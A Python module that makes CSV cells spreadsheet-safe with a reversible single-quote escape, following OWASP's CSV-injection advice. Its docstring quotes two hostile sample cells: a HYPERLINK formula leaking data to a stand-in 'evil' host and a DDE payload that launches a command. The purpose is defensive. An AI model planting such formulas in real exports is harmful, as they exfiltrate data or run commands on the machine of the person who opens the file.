"""Spreadsheet-safe CSV cells: a reversible escape against CSV formula injection.

Excel, LibreOffice Calc and Google Sheets run a cell that starts with `=`, `+`, `-`, `@`, tab
or carriage return as a formula, so a crowd worker's answer
`=HYPERLINK("http://evil/?x="&A1,"click")` or an item id `+cmd|' /C calc'!A0` in an export
would run on the machine of the researcher who opens it. OWASP's CSV injection guidance is to
prefix such a cell with a single quote, which spreadsheets take as "this is text" and do not
show. Quorum also escapes a cell that already starts with `'`, so the escape is reversible:
every CSV import undoes it exactly, and export → import → export stays byte-identical.

A plain number is left alone: a spreadsheet reads it as the number it is (no formula runs), and
a confidence of `-0.5` stays a number. Plain means an optional sign, ASCII digits with at most
one decimal point (`-0.5`, `+3`, `.5`, `7.`), and an optional exponent (`1e-3`, `-2.5E+10`);
anything else (`-inf`, `-1+1`, `- 3`, a sign before non-ASCII digits) is text.

Pure Python, no Django: any exporter or importer of CSV text can use it.
"""

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def escape_cell(text):
    """The cell as a CSV writer should write it: with one `'` before a would-be formula."""
    return "'" + text if _needs_escape(text) else text


def unescape_cell(text):
    """The cell as the exporter had it: one leading `'` removed where `escape_cell` added it.

    A `'` before anything that `escape_cell` leaves alone (`'tis`) is the cell's own text.
    """
    return text[1:] if text.startswith("'") and _needs_escape(text[1:]) else text


def _needs_escape(text):
    return text.startswith(TRIGGERS) and PLAIN_NUMBER.fullmatch(text) is None
